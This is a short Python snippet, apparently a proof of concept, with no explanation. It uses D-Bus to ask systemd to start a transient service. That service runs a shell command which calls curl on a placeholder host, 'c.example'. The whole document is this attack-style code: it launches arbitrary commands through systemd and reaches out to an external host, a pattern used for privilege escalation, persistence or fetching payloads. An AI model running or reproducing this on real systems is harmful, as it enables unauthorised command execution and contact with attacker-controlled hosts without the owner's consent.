import dbus
bus = dbus.SystemBus()
o = bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1')
m = dbus.Interface(o, 'org.freedesktop.systemd1.Manager')
m.StartTransientUnit('a.service', 'fail', [('ExecStart', dbus.Array([('/bin/sh', ['sh', '-c', 'curl http://c.example/u'], False)]))], [])
